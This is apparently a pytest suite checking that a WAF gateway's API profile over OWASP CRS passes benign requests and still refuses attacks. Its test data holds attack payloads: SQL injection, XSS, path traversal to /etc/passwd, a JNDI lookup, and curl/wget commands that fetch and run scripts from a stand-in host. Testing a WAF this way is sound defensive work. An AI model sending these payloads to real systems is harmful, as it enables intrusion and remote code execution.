"""crs's API profile through the gateway: the corpora, then each of its parts.

The corpora (tests/waf/corpus, README.md there) go as raw bytes to routes
of one gateway: crs without the profile (the baseline), crs with it, and
crs with it and the GraphQL field `query` for the GraphQL requests. Then
each part of the profile, each GraphQL rule and each kind of exclusion
gets the benign request that needs it (refused without it) and the attack
that must still be refused with it.
"""

from __future__ import annotations

import json
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

import pytest
from api_corpus import Request, attacks, benign, generator
from waf_harness import RecordingUpstream, ThreadedGateway, waf_config

from stockade.proxy.settings import ProxyConfig
from stockade.proxy.waf_settings import CrsConfig, Exclusion, RouteWaf, WafConfig

MAX_FALSE_POSITIVES = 0.01  # of the benign corpus, crs PL1 with the profile
MAX_DETECTION_LOSS = 0.01  # of the attack corpus, against crs PL1 without it
STREET = "json.shipping.street_name"  # a field no profile rule knows is an address

ROUTES = {
    "plain": RouteWaf("crs", profile="none"),
    "api": RouteWaf("crs"),
    "gql": RouteWaf("crs", graphql_fields=("query",)),
    "street": RouteWaf(
        "crs", exclusions=(Exclusion(("942360",), (STREET,), "street names look like SQL"),)
    ),
    "street_range": RouteWaf(
        "crs", exclusions=(Exclusion(("942350-942370",), (STREET,), "street names"),)
    ),
    "no942360": RouteWaf("crs", exclusions=(Exclusion(("942360",), (), "all addresses"),)),
    "utf8_q": RouteWaf("crs", exclusions=(Exclusion(("941310",), ("q",), "legacy bytes"),)),
    "utf8_off": RouteWaf("crs", exclude_rules=("941310",)),
}
PROFILE_ROUTE = {"api": "api", "graphql": "gql"}  # a corpus request's route, with the profile


def _gateway(tmp: Path, paranoia: int) -> ThreadedGateway:
    waf = WafConfig(crs=CrsConfig(paranoia_level=paranoia), max_pending=256)

    def config(upstream: RecordingUpstream) -> ProxyConfig:
        return waf_config(upstream, tmp / "access.log", ROUTES, waf)

    return ThreadedGateway(config)


@pytest.fixture(scope="module")
def gateway(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ThreadedGateway]:
    with _gateway(tmp_path_factory.mktemp("pl1"), 1) as gw:
        yield gw


@pytest.fixture(scope="module")
def gateway_pl2(tmp_path_factory: pytest.TempPathFactory) -> Iterator[ThreadedGateway]:
    with _gateway(tmp_path_factory.mktemp("pl2"), 2) as gw:
        yield gw


def _refused(gw: ThreadedGateway, route: str, request: Request) -> bool:
    status, _ = gw.send(request.raw(f"/{route}"), timeout=30)
    assert status in (200, 403), (route, request.id, status)
    return status == 403


def _all_refused(gw: ThreadedGateway, jobs: list[tuple[str, Request]]) -> list[bool]:
    with ThreadPoolExecutor(4) as pool:  # the engine threads work while we wait
        return list(pool.map(lambda job: _refused(gw, *job), jobs))


# -- the corpora ------------------------------------------------------------------


def test_the_corpus_files_are_what_the_generator_writes() -> None:
    """Provenance: the files come from make_corpus.py, unedited."""
    make = generator()
    for name, requests in make.build().items():
        lines = (Path(make.HERE) / name).read_text(encoding="utf-8").splitlines()
        assert [json.loads(line) for line in lines] == requests, name


def test_the_corpora_have_the_kinds_the_issue_names() -> None:
    kinds = Counter(r.kind for r in benign())
    assert sum(kinds.values()) >= 500
    for kind in ("json-nested", "unicode", "url", "graphql", "markdown", "search", "address"):
        assert kinds[kind] >= 50, kind
    found = attacks()
    assert len(found) >= 300
    assert {r.category for r in found} >= {"sqli", "xss", "lfi", "rfi", "rce", "php", "java"}
    assert {r.place for r in found} == {*generator().API_PLACES, *generator().GRAPHQL_PLACES}


def test_every_attack_place_passes_plain_crs_with_a_benign_value(
    gateway: ThreadedGateway,
) -> None:
    """What plain CRS refuses in the attack corpus is the payload, not where it is."""
    make = generator()
    for place in (*make.API_PLACES, *make.GRAPHQL_PLACES):
        control = Request.of({**make.attack(place, "blue linen shirt"), "id": place})
        assert not _refused(gateway, "plain", control), place


@dataclass
class Verdicts:
    benign: dict[str, bool]  # by id: refused by crs PL1 with the profile
    benign_plain: dict[str, bool]
    attacks: dict[str, bool]
    attacks_plain: dict[str, bool]


@pytest.fixture(scope="module")
def verdicts(gateway: ThreadedGateway) -> Verdicts:
    good, bad = benign(), attacks()
    jobs = [(PROFILE_ROUTE[r.route], r) for r in good] + [("plain", r) for r in good]
    jobs += [(PROFILE_ROUTE[r.route], r) for r in bad] + [("plain", r) for r in bad]
    refused = iter(_all_refused(gateway, jobs))
    return Verdicts(
        {r.id: next(refused) for r in good},
        {r.id: next(refused) for r in good},
        {r.id: next(refused) for r in bad},
        {r.id: next(refused) for r in bad},
    )


@pytest.mark.timeout(900)
def test_the_profile_passes_the_benign_corpus(verdicts: Verdicts) -> None:
    refused = [i for i, no in verdicts.benign.items() if no]
    plain = sum(verdicts.benign_plain.values())
    # the corpus is one plain CRS misfires on, so this can fail
    assert plain > 0.15 * len(verdicts.benign)
    assert len(refused) <= MAX_FALSE_POSITIVES * len(verdicts.benign), refused


@pytest.mark.timeout(900)
def test_the_profile_keeps_detection(verdicts: Verdicts) -> None:
    total = len(verdicts.attacks)
    with_profile = sum(verdicts.attacks.values()) / total
    plain = sum(verdicts.attacks_plain.values()) / total
    lost = [i for i, no in verdicts.attacks_plain.items() if no and not verdicts.attacks[i]]
    assert with_profile >= plain - MAX_DETECTION_LOSS, (with_profile, plain, lost)
    assert plain > 0.8  # the payloads are ones CRS knows


# -- each part: the benign request that needs it, the attack it must still stop ----------


def json_request(path: str, value: object, method: str = "POST", query: str = "") -> Request:
    body = json.dumps(value, ensure_ascii=False).encode()
    target = path + (f"?{query}" if query else "")
    return Request("-", "-", "api", method, target, (("Content-Type", "application/json"),), body)


def get(target: str, headers: tuple[tuple[str, str], ...] = ()) -> Request:
    return Request("-", "-", "api", "GET", target, headers, b"")


@dataclass(frozen=True)
class Part:
    name: str
    route: str  # where the profile applies
    needs: Request  # refused without the part (on "plain", or `without`)
    attacks: tuple[Request, ...]  # refused with it
    without: str = "plain"


MARKDOWN = "## Done\n- [x] write tests\n- [ ] update the changelog\ncc @ops-team\n"
GRAPHQL = "query GetUser($id: ID!) { user(id: $id) { id name email } }"
ADDRESS = "4 Insert Road, Unit 7/2"
PARTS = (
    Part(
        "names: a JSON key is read as a key, not as json.-prefixed path (930120)",
        "api",
        json_request("/api/users/1", {"profile": {"bio": "hi"}}),
        (
            json_request("/api/items", {"filters": {"../../etc/passwd": {"eq": 1}}}),
            json_request("/api/items", {"x": {".bashrc": 1}}),  # an empty key: read whole
            json_request("/api/items", {"${jndi:ldap://198.18.5.5/a}": 1}),  # dots in the key
            json_request("/api/items", {"a": {"<script>alert(1)</script>": {"b": 1}}}),
            # deeper than NAME_DEPTH: the rest of the path is read joined
            json_request(
                "/api/items",
                {"a": {"b": {"c": {"d": {"e": {"f": {"g": {"' OR 1=1--": {"h": 1}}}}}}}}},
            ),
            # a query name on a JSON request is read as it is
            json_request("/api/items", {"a": 1}, query=quote("<script>alert(1)</script>") + "=1"),
        ),
    ),
    Part(
        "941310 reads only values that are not UTF-8",
        "api",
        json_request("/api/contacts", {"name": "Jürgen Иванов"}),
        (get("/api/search?q=%BCscript%BEalert(1)%BC/script%BE"),),
    ),
    Part(
        "free text: markdown in a body",
        "api",
        json_request("/api/issues", {"title": "Sprint", "body": MARKDOWN}),
        (
            json_request("/api/issues", {"body": "1 UNION SELECT password FROM users--"}),
            json_request("/api/issues", {"comment": "| curl http://198.18.5.5/x.sh | sh"}),
            json_request("/api/issues", {"body": "x; wget http://198.18.5.5/a -O /tmp/a"}),
            json_request("/api/issues", {"body": "<script>alert(1)</script>"}),
        ),
    ),
    Part(
        "free text: a code span around an SQL word (942190)",
        "api",
        json_request("/api/issues/1/comments", {"comment": {"body": "The `select` is cut off"}}),
        (json_request("/api/issues", {"body": "' UNION SELECT username FROM users--"}),),
    ),
    Part(
        "address lines (942360)",
        "api",
        json_request("/api/users/1/address", {"address": {"line1": ADDRESS}}),
        (json_request("/api/users/1/address", {"address": {"line1": "1' OR 1=1--"}}),),
    ),
    Part(
        "search phrases (932150)",
        "api",
        get("/api/search?q=echo%20dot%205th%20gen"),
        (
            get("/api/search?q=%3B%20cat%20%2Fetc%2Fpasswd"),
            get("/api/search?q=1%20UNION%20SELECT%20password%20FROM%20users--"),
        ),
    ),
    Part(
        "GraphQL: the document's syntax (932100)",
        "gql",
        json_request("/graphql", {"query": GRAPHQL, "variables": {"id": "42"}}),
        (
            json_request("/graphql", {"query": GRAPHQL, "variables": {"id": "1' OR '1'='1"}}),
            json_request(
                "/graphql", {"query": 'query { user(name: "1; DROP TABLE users--") { id } }'}
            ),
            json_request(
                "/graphql", {"query": 'query { user(name: "<script>alert(1)</script>") { id } }'}
            ),
            # a batch: an array of documents, the attack in the first
            json_request(
                "/graphql",
                [
                    {"query": 'query { u(n: "1; DROP TABLE users--") { id } }'},
                    {"query": 'query { u(n: "blue linen") { id } }'},
                ],
            ),
        ),
        without="api",  # the profile alone does not know the field holds GraphQL
    ),
    Part(
        "an exclusion for a named argument",
        "street",
        json_request("/api/orders", {"shipping": {"street_name": ADDRESS}}),
        (
            json_request("/api/orders", {"shipping": {"street_name": "1' OR 1=1--"}}),
            json_request("/api/orders", {"shipping": {"other": ADDRESS}}),  # only that argument
        ),
        without="api",
    ),
    Part(
        "an exclusion for a range of rules on a named argument",
        "street_range",
        json_request("/api/orders", {"shipping": {"street_name": ADDRESS}}),
        (json_request("/api/orders", {"shipping": {"other": ADDRESS}}),),
        without="api",
    ),
    Part(
        "an exclusion for the route",
        "no942360",
        json_request("/api/orders", {"shipping": {"other": ADDRESS}}),
        (json_request("/api/orders", {"shipping": {"other": "1' OR 1=1--"}}),),
        without="api",
    ),
    Part(
        "an exclusion covers the profile's copy of a rule (1941310)",
        "utf8_q",
        get("/api/search?q=%BCscript%BE"),
        (get("/api/search?other=%BCscript%BEalert(1)%BC/script%BE"),),
        without="api",
    ),
    Part(
        "waf_exclude_rules covers the profile's copy of a rule",
        "utf8_off",
        get("/api/search?q=%BCscript%BE"),
        (get("/api/search?q=1%20UNION%20SELECT%20password%20FROM%20users--"),),
        without="api",
    ),
)


@pytest.mark.parametrize("part", PARTS, ids=[p.name for p in PARTS])
def test_a_part_passes_what_needs_it_and_stops_attacks(
    gateway: ThreadedGateway, part: Part
) -> None:
    assert _refused(gateway, part.without, part.needs), "refused without the part"
    assert not _refused(gateway, part.route, part.needs)
    for attack in part.attacks:
        assert _refused(gateway, part.route, attack), attack.raw("")[:300]


PARTS_PL2 = (
    Part(
        "913101: an HTTP library as the User-Agent",
        "api",
        get("/api/orders?page=2", (("User-Agent", "python-requests/2.31.0"),)),
        (
            get("/api/orders?page=2", (("User-Agent", "sqlmap/1.7.2#stable"),)),
            get("/api/orders?page=2", (("User-Agent", "Mozilla/5.00 (Nikto/2.1.6)"),)),
        ),
    ),
    Part(
        "931130: a URL to another host in a JSON member",
        "api",
        json_request("/api/hooks", {"webhook": {"url": "https://hooks.example.org/orders"}}),
        (
            get("/api/page?file=http%3A%2F%2F198.18.5.5%2Fshell.txt%3F"),
            json_request("/api/hooks", {"webhook": {"url": "http://198.18.5.5/shell.txt?"}}),
        ),
    ),
)


@pytest.mark.parametrize("part", PARTS_PL2, ids=[p.name for p in PARTS_PL2])
def test_a_paranoia_level_2_part(gateway_pl2: ThreadedGateway, part: Part) -> None:
    assert _refused(gateway_pl2, part.without, part.needs), "refused without the part"
    assert not _refused(gateway_pl2, part.route, part.needs)
    for attack in part.attacks:
        assert _refused(gateway_pl2, part.route, attack), attack.raw("")[:300]
